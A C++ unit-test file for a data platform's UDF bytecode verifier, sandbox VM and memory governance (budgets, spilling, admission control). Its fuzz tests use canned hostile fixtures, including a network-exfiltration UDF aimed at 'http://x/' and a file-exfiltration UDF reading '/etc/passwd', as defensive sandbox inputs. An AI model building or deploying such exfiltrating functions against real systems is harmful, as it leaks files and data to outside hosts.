    case 0: bc = canned::SumUdf(); break;
    case 1: bc = canned::HashUdf(1 + rng() % 4); break;
    case 2: bc = canned::NetworkExfiltrationUdf("http://x/"); break;
    case 3: bc = canned::FileExfiltrationUdf("/p"); break;
    case 4: bc = canned::SensorFeatureUdf(0.5, 1.0); break;
    default: bc = canned::InfiniteLoopUdf(); break;
  }
  const size_t mutations = 1 + rng() % 3;
  for (size_t m = 0; m < mutations && !bc.code.empty(); ++m) {
    size_t at = rng() % bc.code.size();
    switch (rng() % 4) {
      case 0:
        bc.code[at].operand += static_cast<int32_t>(rng() % 5) - 2;
        break;
      case 1:
        bc.code[at].op = static_cast<OpCode>(rng() % (kMaxOpCode + 1));
        break;
      case 2:
        bc.code[at].operand2 = static_cast<int32_t>(rng() % 3);
        break;
      default:
        std::swap(bc.code[at], bc.code[rng() % bc.code.size()]);
        break;
    }
  }
  return bc;
}

TEST(DifferentialFuzzTest, AcceptedProgramsNeverTrapTheVm) {
  std::mt19937 rng(0xC0FFEE);  // deterministic corpus
  AbiHost host;
  int accepted = 0;
  int executed_ok = 0;
  constexpr int kIterations = 12'000;
  for (int iter = 0; iter < kIterations; ++iter) {
    // Three populations: uniform-random (mostly rejected — checks rejection
    // typing), stack-aware straight-line (mostly accepted — checks the
    // run-without-traps property), and mutated canned programs (real CFGs
    // with loops, nudged off-spec).
    UdfBytecode bc = iter % 3 == 0   ? RandomProgram(rng)
                     : iter % 3 == 1 ? StackAwareProgram(rng)
                                     : MutatedCanned(rng);
    auto cert = VerifyBytecode(bc);
    if (!cert.ok()) {
      EXPECT_TRUE(cert.status().IsInvalidArgument())
          << "rejections must be typed: " << cert.status();
      continue;
    }
    ++accepted;

    std::vector<Value> args;
    for (uint32_t i = 0; i < bc.num_args; ++i) args.push_back(RandomValue(rng));

    VmLimits limits;
    limits.fuel = 200'000;  // bounds accepted-but-looping programs
    // A sound max-stack certificate means the VM never needs more.
    limits.max_stack = cert->max_stack_height;
    VmStats stats;
    auto result = ExecuteUdf(bc, args, &host, limits, &stats);
    if (result.ok()) {
      ++executed_ok;
    } else {
      ASSERT_FALSE(IsIntegrityTrap(result.status()))
          << "verifier accepted a program the VM traps on: "
          << result.status() << "\n(iteration " << iter << ")";
      if (result.status().code() == StatusCode::kResourceExhausted) {
        // Only statically unbounded programs may exhaust fuel — a
        // finite-cost certificate under-approximating real cost would be a
        // soundness hole. (Stack exhaustion is impossible: the limit above
        // IS the certified bound.)
        ASSERT_EQ(cert->worst_case_cost, kUnboundedCost)
            << "finite-cost program exhausted resources: " << result.status();
      }
    }
    if (cert->worst_case_cost != kUnboundedCost) {
      EXPECT_LE(stats.instructions, cert->worst_case_cost)
          << "executed more instructions than certified (iteration " << iter
          << ")";
      EXPECT_FALSE(cert->guaranteed_divergent);
    }
  }
  // The generator bias must keep the accepted corpus meaningful.
  EXPECT_GE(accepted, 1000) << "of " << kIterations;
  EXPECT_GE(executed_ok, 300) << "of " << accepted << " accepted";
  RecordProperty("accepted", accepted);
  RecordProperty("executed_ok", executed_ok);
}

// ---- Wire-level fuzz: truncations and bit flips -----------------------------

std::vector<uint8_t> Wire(const UdfBytecode& bc) {
  ByteWriter writer;
  SerializeBytecode(bc, &writer);
  return writer.data();
}

void ExpectSafeDecode(const std::vector<uint8_t>& bytes) {
  ByteReader reader(bytes);
  auto decoded = DeserializeBytecode(&reader);
  if (!decoded.ok()) return;  // rejected at the wire: safe
  auto cert = VerifyBytecode(*decoded);
  if (!cert.ok()) {
    EXPECT_TRUE(cert.status().IsInvalidArgument()) << cert.status();
    return;  // rejected at admission: safe
  }
  // Decoded AND verified: it must then run without integrity traps.
  AbiHost host;
  std::vector<Value> args(decoded->num_args, Value::Int(7));
  VmLimits limits;
  limits.fuel = 100'000;
  auto result = ExecuteUdf(*decoded, args, &host, limits);
  if (!result.ok()) {
    EXPECT_FALSE(IsIntegrityTrap(result.status())) << result.status();
  }
}

TEST(WireFuzzTest, TruncationsAreRejectedOrSafe) {
  for (const UdfBytecode& bc :
       {canned::SumUdf(), canned::HashUdf(4),
        canned::NetworkExfiltrationUdf("http://x/")}) {
    std::vector<uint8_t> bytes = Wire(bc);
    for (size_t cut = 0; cut < bytes.size(); ++cut) {
      ExpectSafeDecode(
          std::vector<uint8_t>(bytes.begin(), bytes.begin() + cut));
    }
  }
}

TEST(WireFuzzTest, SingleBitFlipsAreRejectedOrSafe) {
  for (const UdfBytecode& bc :
       {canned::SumUdf(), canned::HashUdf(4),
        canned::FileExfiltrationUdf("/etc/passwd")}) {
    std::vector<uint8_t> bytes = Wire(bc);
    for (size_t pos = 0; pos < bytes.size(); ++pos) {
      for (int bit = 0; bit < 8; ++bit) {
        std::vector<uint8_t> mutated = bytes;
        mutated[pos] = static_cast<uint8_t>(mutated[pos] ^ (1u << bit));
        ExpectSafeDecode(mutated);
      }
    }
  }
}

}  // namespace
}  // namespace lakeguard
