// Memory-governance tests: hierarchical budget semantics (refusal, RAII,
// concurrent hammering), breaker spill correctness (byte-identical to the
// in-memory run, bounded peak, no leaked files), the Connect chunk cache
// (eviction + backpressure), ExecutePlan admission control (FIFO queue,
// deadline, load shedding) and the degradation ladder.

#include <gtest/gtest.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <thread>

#include "columnar/spill.h"
#include "common/fault.h"
#include "common/memory_budget.h"
#include "common/retry.h"
#include "connect/protocol.h"
#include "core/platform.h"
#include "plan/plan_serde.h"
#include "udf/builder.h"

namespace lakeguard {
namespace {

namespace fs = std::filesystem;

// ---- Budget hierarchy -------------------------------------------------------------

TEST(MemoryBudgetTest, TryReserveChargesWholeChainOrNothing) {
  auto service = std::make_shared<MemoryBudget>("service", 1000);
  auto session = std::make_shared<MemoryBudget>("session", 500, service);
  auto op = std::make_shared<MemoryBudget>("op", 300, session);

  ASSERT_TRUE(op->TryReserve(200).ok());
  EXPECT_EQ(op->used_bytes(), 200u);
  EXPECT_EQ(session->used_bytes(), 200u);
  EXPECT_EQ(service->used_bytes(), 200u);

  Status refused = op->TryReserve(200);  // 400 > 300 at the op node
  EXPECT_EQ(refused.code(), StatusCode::kResourceExhausted);
  EXPECT_TRUE(IsTransientError(refused)) << refused.ToString();
  EXPECT_NE(refused.message().find("op"), std::string::npos);
  // Nothing was charged anywhere.
  EXPECT_EQ(op->used_bytes(), 200u);
  EXPECT_EQ(session->used_bytes(), 200u);
  EXPECT_EQ(service->used_bytes(), 200u);
  EXPECT_EQ(op->refusals(), 1u);
}

TEST(MemoryBudgetTest, AncestorRefusalUndoesLocalCharge) {
  auto service = std::make_shared<MemoryBudget>("service", 250);
  auto op = std::make_shared<MemoryBudget>("op", 0, service);  // unlimited

  ASSERT_TRUE(op->TryReserve(200).ok());
  Status refused = op->TryReserve(100);  // op accepts, service refuses
  EXPECT_EQ(refused.code(), StatusCode::kResourceExhausted);
  EXPECT_NE(refused.message().find("service"), std::string::npos);
  EXPECT_EQ(op->used_bytes(), 200u) << "local charge must be undone";
  EXPECT_EQ(service->used_bytes(), 200u);
}

TEST(MemoryBudgetTest, ForceReserveOverrunsVisibleInPeak) {
  MemoryBudget budget("b", 100);
  ASSERT_TRUE(budget.TryReserve(90).ok());
  budget.ForceReserve(50);  // the "+1 batch" slack may exceed the limit
  EXPECT_EQ(budget.used_bytes(), 140u);
  EXPECT_EQ(budget.peak_bytes(), 140u);
  budget.Release(140);
  EXPECT_EQ(budget.used_bytes(), 0u);
  EXPECT_EQ(budget.peak_bytes(), 140u);  // high-water mark sticks
}

TEST(MemoryBudgetTest, ReleaseClampsAtZero) {
  MemoryBudget budget("b", 0);
  budget.ForceReserve(10);
  budget.Release(1000);  // over-release degrades to lost tracking, not wrap
  EXPECT_EQ(budget.used_bytes(), 0u);
  EXPECT_TRUE(budget.TryReserve(5).ok());
}

TEST(MemoryBudgetTest, DestructorReturnsResidualToAncestors) {
  auto service = std::make_shared<MemoryBudget>("service", 0);
  {
    auto op = std::make_shared<MemoryBudget>("op", 0, service);
    ASSERT_TRUE(op->TryReserve(777).ok());
    EXPECT_EQ(service->used_bytes(), 777u);
    // op destroyed holding 777 bytes.
  }
  EXPECT_EQ(service->used_bytes(), 0u);
}

TEST(MemoryBudgetTest, ReservationRaiiReleasesOnScopeExit) {
  auto budget = std::make_shared<MemoryBudget>("b", 1000);
  {
    MemoryReservation reservation(budget);
    ASSERT_TRUE(reservation.Grow(400).ok());
    reservation.GrowForced(100);
    EXPECT_EQ(reservation.bytes(), 500u);
    reservation.Shrink(200);
    EXPECT_EQ(budget->used_bytes(), 300u);
    // Moving transfers ownership of the outstanding bytes.
    MemoryReservation moved(std::move(reservation));
    EXPECT_EQ(moved.bytes(), 300u);
  }
  EXPECT_EQ(budget->used_bytes(), 0u);
}

TEST(MemoryBudgetTest, GovernorVendsHierarchyAndReleasesSessions) {
  MemoryGovernorConfig config;
  config.service_limit_bytes = 10'000;
  config.session_limit_bytes = 5'000;
  config.operation_limit_bytes = 2'000;
  MemoryGovernor governor(config);

  auto s1 = governor.SessionBudget("s1");
  EXPECT_EQ(s1.get(), governor.SessionBudget("s1").get());  // get-or-create
  EXPECT_EQ(governor.TrackedSessionCount(), 1u);
  EXPECT_EQ(s1->limit_bytes(), 5'000u);

  auto op = governor.CreateOperationBudget("s1", "op1");
  EXPECT_EQ(op->parent().get(), s1.get());
  EXPECT_EQ(op->limit_bytes(), 2'000u);
  ASSERT_TRUE(op->TryReserve(1'500).ok());
  EXPECT_EQ(governor.service_budget()->used_bytes(), 1'500u);

  // Releasing the session while an op budget is live is safe: the op keeps
  // the node alive through its parent pointer and still releases correctly.
  governor.ReleaseSession("s1");
  EXPECT_EQ(governor.TrackedSessionCount(), 0u);
  op.reset();
  EXPECT_EQ(governor.service_budget()->used_bytes(), 0u);
}

TEST(MemoryBudgetTest, ConcurrentReserveReleaseHammerStaysConsistent) {
  auto service = std::make_shared<MemoryBudget>("service", 1 << 20);
  auto session = std::make_shared<MemoryBudget>("session", 1 << 19, service);
  constexpr int kThreads = 8;
  constexpr int kIters = 4000;
  std::vector<std::shared_ptr<MemoryBudget>> ops;
  for (int t = 0; t < kThreads; ++t) {
    ops.push_back(std::make_shared<MemoryBudget>("op" + std::to_string(t),
                                                 1 << 18, session));
  }
  std::atomic<uint64_t> granted{0};
  std::atomic<uint64_t> refused{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < kThreads; ++t) {
    threads.emplace_back([&, t] {
      auto& op = *ops[static_cast<size_t>(t)];
      for (int i = 0; i < kIters; ++i) {
        uint64_t size = 64 + (static_cast<uint64_t>(t) * 2654435761u +
                              static_cast<uint64_t>(i) * 40503u) %
                                 4096;
        if (i % 97 == 0) {
          op.ForceReserve(size);
          op.Release(size);
          continue;
        }
        if (op.TryReserve(size).ok()) {
          ++granted;
          op.Release(size);
        } else {
          ++refused;
        }
      }
    });
  }
  for (auto& thread : threads) thread.join();
  EXPECT_GT(granted.load(), 0u);
  for (const auto& op : ops) EXPECT_EQ(op->used_bytes(), 0u);
  EXPECT_EQ(session->used_bytes(), 0u);
  EXPECT_EQ(service->used_bytes(), 0u);
  EXPECT_GT(service->peak_bytes(), 0u);
}

// ---- Spill primitives -------------------------------------------------------------

class SpillFileTest : public ::testing::Test {
 protected:
  void SetUp() override { FaultInjector::Instance().Reset(); }
  void TearDown() override { FaultInjector::Instance().Reset(); }

  static RecordBatch MakeBatch(int64_t start, int64_t rows) {
    TableBuilder builder(Schema(
        {{"i", TypeKind::kInt64, false}, {"s", TypeKind::kString, true}}));
    for (int64_t i = start; i < start + rows; ++i) {
      EXPECT_TRUE(builder
                      .AppendRow({Value::Int(i),
                                  i % 7 == 0
                                      ? Value::Null()
                                      : Value::String("payload-" +
                                                      std::to_string(i))})
                      .ok());
    }
    return *builder.Build().Combine();
  }
};

TEST_F(SpillFileTest, RoundtripIsByteIdenticalAndDirSweeps) {
  std::string dir_path;
  {
    auto dir = spill::SpillDir::Create("");
    ASSERT_TRUE(dir.ok()) << dir.status().ToString();
    dir_path = (*dir)->path();
    EXPECT_TRUE(fs::exists(dir_path));

    std::vector<RecordBatch> batches = {MakeBatch(0, 100), MakeBatch(100, 57)};
    auto run = (*dir)->WriteRun(batches);
    ASSERT_TRUE(run.ok()) << run.status().ToString();
    EXPECT_EQ(run->batches, 2u);
    EXPECT_EQ(run->rows, 157u);
    EXPECT_GT(run->bytes, 0u);

    auto reader = spill::SpillRunReader::Open(*run);
    ASSERT_TRUE(reader.ok()) << reader.status().ToString();
    for (const RecordBatch& expected : batches) {
      auto got = reader->Next();
      ASSERT_TRUE(got.ok()) << got.status().ToString();
      ASSERT_TRUE(got->has_value());
      EXPECT_TRUE((*got)->Equals(expected));
    }
    auto end = reader->Next();
    ASSERT_TRUE(end.ok());
    EXPECT_FALSE(end->has_value());

    EXPECT_TRUE((*dir)->DeleteRun(*run).ok());
  }
  // The destructor swept the whole directory.
  EXPECT_FALSE(fs::exists(dir_path));
}

TEST_F(SpillFileTest, WriteFaultRemovesPartialRunAndIsRetryComposable) {
  auto dir = spill::SpillDir::Create("");
  ASSERT_TRUE(dir.ok());
  std::vector<RecordBatch> batches = {MakeBatch(0, 50), MakeBatch(50, 50)};
  {
    ScopedFault fault("spill.write", FaultPolicy::FailTimes(1));
    auto run = (*dir)->WriteRun(batches);
    ASSERT_FALSE(run.ok());
    EXPECT_TRUE(IsTransientError(run.status())) << run.status().ToString();
    EXPECT_TRUE(fs::is_empty((*dir)->path()))
        << "half-written run must not survive";
  }
  // A retry (fault exhausted) succeeds cleanly.
  auto retried = (*dir)->WriteRun(batches);
  ASSERT_TRUE(retried.ok()) << retried.status().ToString();
  EXPECT_EQ(retried->rows, 100u);
}

// ---- Governed query execution -----------------------------------------------------

class MemoryQueryTest : public ::testing::Test {
 protected:
  MemoryQueryTest() {
    spill_base_ = (fs::temp_directory_path() /
                   ("lg-memtest-" + std::to_string(::getpid())))
                      .string();
    fs::create_directories(spill_base_);
    LakeguardPlatform::Options options;
    // Small batches so a modest working set spans many batches and the
    // spill machinery is exercised across several runs.
    options.engine_config.exec.batch_size = 256;
    options.engine_config.exec.spill_dir = spill_base_;
    platform_ = std::make_unique<LakeguardPlatform>(options);
    EXPECT_TRUE(platform_->AddUser("admin").ok());
    platform_->AddMetastoreAdmin("admin");
    cluster_ = platform_->CreateStandardCluster();
    admin_ctx_ = *platform_->DirectContext(cluster_, "admin");
  }

  ~MemoryQueryTest() override {
    std::error_code ec;
    fs::remove_all(spill_base_, ec);
  }

  size_t SpillEntriesLeft() const {
    size_t n = 0;
    for (const auto& entry : fs::directory_iterator(spill_base_)) {
      (void)entry;
      ++n;
    }
    return n;
  }

  /// Rows with a grouping key, a pseudo-random value and a widening string
  /// payload (string-heap bytes must be charged too).
  static RecordBatch WideBatch(int64_t rows, int64_t groups = 1501) {
    TableBuilder builder(Schema({{"k", TypeKind::kInt64, false},
                                 {"v", TypeKind::kInt64, false},
                                 {"s", TypeKind::kString, false}}));
    uint64_t x = 88172645463325252ull;
    for (int64_t i = 0; i < rows; ++i) {
      x ^= x << 13;
      x ^= x >> 7;
      x ^= x << 17;
      EXPECT_TRUE(
          builder
              .AppendRow({Value::Int(i % groups),
                          Value::Int(static_cast<int64_t>(x % 100000)),
                          Value::String("payload-" + std::to_string(x % 997) +
                                        "-row-" + std::to_string(i))})
              .ok());
    }
    return *builder.Build().Combine();
  }

  /// Streams `plan` to completion under `budget`, returning the collected
  /// table and (optionally) the executor counters observed at end-of-stream.
  Result<Table> Run(const PlanPtr& plan, std::shared_ptr<MemoryBudget> budget,
                    ExecutorStats* stats_out = nullptr) {
    ExecutionContext ctx = admin_ctx_;
    ctx.memory = std::move(budget);
    LG_ASSIGN_OR_RETURN(QueryResultStreamPtr stream,
                        cluster_->engine->ExecutePlanStreaming(plan, ctx));
    Table out(stream->schema());
    while (true) {
      auto batch = stream->Next();
      LG_RETURN_IF_ERROR(batch.status());
      if (!batch->has_value()) break;
      if ((*batch)->num_rows() == 0) continue;
      LG_RETURN_IF_ERROR(out.AppendBatch(std::move(**batch)));
    }
    if (stats_out != nullptr) *stats_out = stream->stats();
    return out;
  }

  void ExpectByteIdentical(const Table& a, const Table& b) {
    auto ca = a.Combine();
    auto cb = b.Combine();
    ASSERT_TRUE(ca.ok());
    ASSERT_TRUE(cb.ok());
    ASSERT_EQ(ca->num_rows(), cb->num_rows());
    EXPECT_TRUE(ca->Equals(*cb));
  }

  std::string spill_base_;
  std::unique_ptr<LakeguardPlatform> platform_;
  ClusterHandle* cluster_ = nullptr;
  ExecutionContext admin_ctx_;
};

TEST_F(MemoryQueryTest, SortSpillsUnderBudgetAndMatchesInMemoryRun) {
  RecordBatch input = WideBatch(8192);
  const uint64_t working_set = input.ByteSize();
  const uint64_t limit = working_set / 4;  // 4x over budget
  PlanPtr plan = MakeSort(MakeLocalRelation(input),
                          {{Col("v"), true}, {Col("s"), false}});

  auto baseline = Run(plan, nullptr);
  ASSERT_TRUE(baseline.ok()) << baseline.status().ToString();

  auto budget = std::make_shared<MemoryBudget>("operation/sort", limit);
  ExecutorStats stats;
  auto governed = Run(plan, budget, &stats);
  ASSERT_TRUE(governed.ok()) << governed.status().ToString();

  ExpectByteIdentical(*baseline, *governed);
  EXPECT_GT(stats.budget_refusals, 0u);
  EXPECT_GT(stats.spill_runs, 0u);
  EXPECT_GT(stats.spill_bytes, 0u);
  // Peak stays within the budget plus bounded slack (the forced in-flight
  // batches a merge must hold to make progress).
  EXPECT_LE(budget->peak_bytes(), limit + limit / 4)
      << "peak " << budget->peak_bytes() << " vs limit " << limit;
  EXPECT_LT(budget->peak_bytes(), working_set);
  EXPECT_EQ(budget->used_bytes(), 0u) << "all charges returned on teardown";
  EXPECT_EQ(SpillEntriesLeft(), 0u) << "no spill files may survive the query";
}

TEST_F(MemoryQueryTest, AggregateSpillMatchesInMemoryRun) {
  RecordBatch input = WideBatch(8192, /*groups=*/1501);
  const uint64_t limit = input.ByteSize() / 4;
  PlanPtr plan = MakeAggregate(
      MakeLocalRelation(input), {Col("k")}, {"k"},
      {Func("SUM", {Col("v")}), Func("COUNT", {LitInt(1)}),
       Func("MIN", {Col("v")}), Func("MAX", {Col("v")}),
       Func("AVG", {Col("v")})},
      {"total", "n", "lo", "hi", "avg"});

  auto baseline = Run(plan, nullptr);
  ASSERT_TRUE(baseline.ok()) << baseline.status().ToString();

  auto budget = std::make_shared<MemoryBudget>("operation/agg", limit);
  ExecutorStats stats;
  auto governed = Run(plan, budget, &stats);
  ASSERT_TRUE(governed.ok()) << governed.status().ToString();

  ExpectByteIdentical(*baseline, *governed);
  EXPECT_GT(stats.spill_runs, 0u);
  EXPECT_EQ(budget->used_bytes(), 0u);
  EXPECT_EQ(SpillEntriesLeft(), 0u);
}

TEST_F(MemoryQueryTest, JoinBuildSpillMatchesInMemoryRun) {
  RecordBatch build = WideBatch(8192, /*groups=*/700);
  TableBuilder probe_builder(Schema(
      {{"pk", TypeKind::kInt64, false}, {"pv", TypeKind::kInt64, false}}));
  for (int64_t i = 0; i < 900; ++i) {
    // Some keys match several build rows, some (>= 700) match none — the
    // left join must pad those with NULLs identically in both modes.
    ASSERT_TRUE(
        probe_builder.AppendRow({Value::Int(i), Value::Int(i * 10)}).ok());
  }
  RecordBatch probe = *probe_builder.Build().Combine();
  const uint64_t limit = build.ByteSize() / 4;

  for (JoinType type : {JoinType::kInner, JoinType::kLeft}) {
    PlanPtr plan = MakeJoin(MakeLocalRelation(probe), MakeLocalRelation(build),
                            type, Eq(Col("pk"), Col("k")));
    auto baseline = Run(plan, nullptr);
    ASSERT_TRUE(baseline.ok()) << baseline.status().ToString();

    auto budget = std::make_shared<MemoryBudget>("operation/join", limit);
    ExecutorStats stats;
    auto governed = Run(plan, budget, &stats);
    ASSERT_TRUE(governed.ok()) << governed.status().ToString();

    ExpectByteIdentical(*baseline, *governed);
    EXPECT_GT(stats.spill_runs, 0u);
    EXPECT_EQ(budget->used_bytes(), 0u);
    EXPECT_EQ(SpillEntriesLeft(), 0u);
  }
}

TEST_F(MemoryQueryTest, SpillDisabledSurfacesTypedRetryableError) {
  QueryEngineConfig original = cluster_->engine->config();
  QueryEngineConfig strict = original;
  strict.exec.enable_spill = false;
  cluster_->engine->set_config(strict);

  RecordBatch input = WideBatch(8192);
  PlanPtr plan = MakeSort(MakeLocalRelation(input), {{Col("v"), true}});
  auto budget =
      std::make_shared<MemoryBudget>("operation/strict", input.ByteSize() / 4);
  auto result = Run(plan, budget);
  cluster_->engine->set_config(original);

  ASSERT_FALSE(result.ok());
  EXPECT_EQ(result.status().code(), StatusCode::kResourceExhausted);
  EXPECT_TRUE(IsTransientError(result.status()));
  EXPECT_EQ(SpillEntriesLeft(), 0u);
}

TEST_F(MemoryQueryTest, SessionPressureShrinksBatchSize) {
  MemoryGovernorConfig config;
  config.session_limit_bytes = 1 << 20;
  MemoryGovernor governor(config);
  auto session = governor.SessionBudget("s1");

  RecordBatch input = WideBatch(2000);
  PlanPtr plan = MakeSort(MakeLocalRelation(input), {{Col("v"), true}});

  // No pressure: full batch size, no shrink counted.
  {
    ExecutorStats stats;
    auto out = Run(plan, governor.CreateOperationBudget("s1", "op0"), &stats);
    ASSERT_TRUE(out.ok()) << out.status().ToString();
    EXPECT_EQ(stats.batch_shrinks, 0u);
  }
  // Session above 50%: one halving (ladder step 1).
  session->ForceReserve(static_cast<uint64_t>(0.6 * (1 << 20)));
  {
    ExecutorStats stats;
    auto out = Run(plan, governor.CreateOperationBudget("s1", "op1"), &stats);
    ASSERT_TRUE(out.ok()) << out.status().ToString();
    EXPECT_EQ(stats.batch_shrinks, 1u);
  }
  // Session above 75%: two halvings.
  session->ForceReserve(static_cast<uint64_t>(0.2 * (1 << 20)));
  {
    ExecutorStats stats;
    auto out = Run(plan, governor.CreateOperationBudget("s1", "op2"), &stats);
    ASSERT_TRUE(out.ok()) << out.status().ToString();
    EXPECT_EQ(stats.batch_shrinks, 2u);
  }
  session->Release(1 << 20);
}

TEST_F(MemoryQueryTest, DispatcherByteCapSplitsUdfBatchesTransparently) {
  ASSERT_TRUE(platform_->catalog().CreateCatalog("admin", "main").ok());
  ASSERT_TRUE(platform_->catalog().CreateSchema("admin", "main.s").ok());
  FunctionInfo fn;
  fn.full_name = "main.s.adder";
  fn.num_args = 2;
  fn.return_type = TypeKind::kInt64;
  fn.body = canned::SumUdf();
  ASSERT_TRUE(platform_->catalog().CreateFunction("admin", fn).ok());
  auto setup = cluster_->engine->ExecuteSql(
      "CREATE TABLE main.s.nums (a BIGINT, b BIGINT)", admin_ctx_);
  ASSERT_TRUE(setup.ok()) << setup.status().ToString();
  std::string values = "INSERT INTO main.s.nums VALUES ";
  for (int i = 0; i < 40; ++i) {
    values += (i ? ", (" : "(") + std::to_string(i) + ", " +
              std::to_string(i * 2) + ")";
  }
  ASSERT_TRUE(cluster_->engine->ExecuteSql(values, admin_ctx_).ok());

  const std::string query =
      "SELECT main.s.adder(a, b) AS v FROM main.s.nums ORDER BY v";
  ExecutorStats last_stats;
  auto run_query = [&]() -> Result<Table> {
    LG_ASSIGN_OR_RETURN(
        QueryResultStreamPtr stream,
        cluster_->engine->ExecuteSqlStreaming(query, admin_ctx_));
    Table out(stream->schema());
    while (true) {
      auto batch = stream->Next();
      LG_RETURN_IF_ERROR(batch.status());
      if (!batch->has_value()) break;
      LG_RETURN_IF_ERROR(out.AppendBatch(std::move(**batch)));
    }
    last_stats = stream->stats();
    return out;
  };

  auto baseline = run_query();
  ASSERT_TRUE(baseline.ok()) << baseline.status().ToString();
  EXPECT_EQ(last_stats.udf_batch_splits, 0u);

  // Cap the sandbox transfer below the 40-row argument batch: the executor
  // must split recursively and stitch the results back together.
  Dispatcher& dispatcher = cluster_->cluster->driver_host().dispatcher();
  dispatcher.set_max_batch_bytes(256);
  auto capped = run_query();
  dispatcher.set_max_batch_bytes(0);
  ASSERT_TRUE(capped.ok()) << capped.status().ToString();

  ExpectByteIdentical(*baseline, *capped);
  EXPECT_GT(last_stats.udf_batch_splits, 0u);
  EXPECT_GT(dispatcher.stats().oversized_batches, 0u);
}

// ---- eFGAC backend budget ---------------------------------------------------------

TEST_F(MemoryQueryTest, EfgacBackendBudgetRefusalForcesEarlySpill) {
  // A byte threshold far above the result size: only the budget refusal can
  // flip the backend into spill mode.
  ServerlessBackend backend(cluster_->engine.get(), &platform_->store(),
                            &platform_->catalog(),
                            /*spill_threshold_bytes=*/64 * 1024 * 1024,
                            platform_->clock());
  backend.set_memory_budget(
      std::make_shared<MemoryBudget>("efgac-backend", 4096));

  RecordBatch input = WideBatch(4000);
  PlanPtr plan = MakeLocalRelation(input);
  auto result = backend.ExecuteRemote(plan, "admin");
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  EXPECT_EQ(result->num_rows(), 4000u);

  const EfgacStats& stats = backend.stats();
  EXPECT_GE(stats.budget_spills, 1u);
  EXPECT_EQ(stats.spilled_results, 1u);
  EXPECT_EQ(stats.inline_results, 0u);
  EXPECT_GT(stats.spill_parts_deleted, 0u);
}

// ---- Connect service: chunk cache and admission control ---------------------------

class ConnectOverloadTest : public ::testing::Test {
 protected:
  /// A batch big enough to force server-side chunk buffering (> 4 chunks of
  /// 1024 rows) so results stream through the FetchChunk path.
  static RecordBatch BigBatch(int64_t rows) {
    TableBuilder builder(Schema(
        {{"i", TypeKind::kInt64, false}, {"tag", TypeKind::kString, false}}));
    for (int64_t i = 0; i < rows; ++i) {
      EXPECT_TRUE(builder
                      .AppendRow({Value::Int(i),
                                  Value::String("r" + std::to_string(i))})
                      .ok());
    }
    return *builder.Build().Combine();
  }

  static ConnectRequest ExecRequest(const std::string& session_id,
                                    const std::string& operation_id,
                                    const RecordBatch& batch,
                                    int64_t deadline_micros = 0) {
    ConnectRequest request;
    request.session_id = session_id;
    request.auth_token = "tok";
    request.operation_id = operation_id;
    request.plan_bytes = PlanToBytes(MakeLocalRelation(batch));
    request.deadline_micros = deadline_micros;
    return request;
  }

  /// Fetches every chunk of a streaming operation; returns the chunk count.
  static size_t Drain(ConnectService* service, const std::string& session_id,
                      const std::string& operation_id) {
    size_t fetched = 0;
    for (uint64_t index = 0;; ++index) {
      auto chunk = service->FetchChunk(session_id, operation_id, index);
      EXPECT_TRUE(chunk.ok()) << chunk.status().ToString();
      if (!chunk.ok()) return fetched;
      ++fetched;
      if (chunk->last) return fetched;
    }
  }

  static std::unique_ptr<LakeguardPlatform> MakePlatform(
      LakeguardPlatform::Options options) {
    auto platform = std::make_unique<LakeguardPlatform>(std::move(options));
    EXPECT_TRUE(platform->AddUser("u").ok());
    platform->RegisterToken("tok", "u");
    return platform;
  }
};

TEST_F(ConnectOverloadTest, ChunkCacheCapSheddsFetchesUntilHolderDrains) {
  LakeguardPlatform::Options options;
  options.chunk_cache_limit_bytes = 16 * 1024;  // below one 1024-row frame
  auto platform = MakePlatform(options);
  ClusterHandle* cluster = platform->CreateStandardCluster();
  auto client = platform->Connect(cluster, "tok");
  ASSERT_TRUE(client.ok());
  const std::string session = client->session_id();
  RecordBatch batch = BigBatch(6000);  // 6 chunks -> streaming result

  // Operation A fills the cache past its cap (a sole holder may always make
  // progress, so its own frames exceed the limit rather than deadlocking).
  ConnectResponse a =
      cluster->service->Execute(ExecRequest(session, "op-a", batch));
  ASSERT_TRUE(a.ok) << a.error_message;
  ASSERT_TRUE(a.streaming);
  EXPECT_GT(a.total_chunks, 0u);

  // Operation B cannot buffer anything while A holds the cache.
  ConnectResponse b =
      cluster->service->Execute(ExecRequest(session, "op-b", batch));
  ASSERT_TRUE(b.ok) << b.error_message;
  ASSERT_TRUE(b.streaming);
  EXPECT_EQ(b.total_chunks, 0u);

  auto blocked = cluster->service->FetchChunk(session, "op-b", 0);
  ASSERT_FALSE(blocked.ok());
  EXPECT_EQ(blocked.status().code(), StatusCode::kUnavailable);
  EXPECT_TRUE(IsTransientError(blocked.status()));
  EXPECT_GE(cluster->service->service_stats().cache_backpressure, 1u);

  // Draining A releases acked frames as the fetch watermark advances and
  // frees everything on the last chunk — capacity returns to B.
  EXPECT_EQ(Drain(cluster->service.get(), session, "op-a"), 6u);
  EXPECT_EQ(Drain(cluster->service.get(), session, "op-b"), 6u);

  ConnectServiceStats stats = cluster->service->service_stats();
  EXPECT_GT(stats.frames_released, 0u);
  EXPECT_EQ(stats.completed_releases, 2u);
  EXPECT_GE(stats.chunk_cache_peak_bytes, options.chunk_cache_limit_bytes);
}

TEST_F(ConnectOverloadTest, AdmissionShedsAtFullQueueAndRecoversAfterDrain) {
  LakeguardPlatform::Options options;
  options.admission_config.max_concurrent_operations = 1;
  options.admission_config.max_queue_depth = 0;  // no waiting room: shed
  auto platform = MakePlatform(std::move(options));
  ClusterHandle* cluster = platform->CreateStandardCluster();
  auto client = platform->Connect(cluster, "tok");
  ASSERT_TRUE(client.ok());
  const std::string session = client->session_id();
  RecordBatch batch = BigBatch(6000);

  // A streaming operation holds its admission slot until fully fetched.
  ConnectResponse holder =
      cluster->service->Execute(ExecRequest(session, "op-hold", batch));
  ASSERT_TRUE(holder.ok) << holder.error_message;
  ASSERT_TRUE(holder.streaming);

  ConnectResponse shed =
      cluster->service->Execute(ExecRequest(session, "op-b", batch));
  EXPECT_FALSE(shed.ok);
  EXPECT_EQ(shed.error_code, "unavailable") << shed.error_message;
  EXPECT_EQ(cluster->service->service_stats().shed_operations, 1u);

  // Draining the holder frees the slot; the same operation now succeeds.
  EXPECT_EQ(Drain(cluster->service.get(), session, "op-hold"), 6u);
  ConnectResponse retried =
      cluster->service->Execute(ExecRequest(session, "op-b", batch));
  EXPECT_TRUE(retried.ok) << retried.error_message;
  EXPECT_EQ(cluster->service->service_stats().admitted_operations, 2u);
}

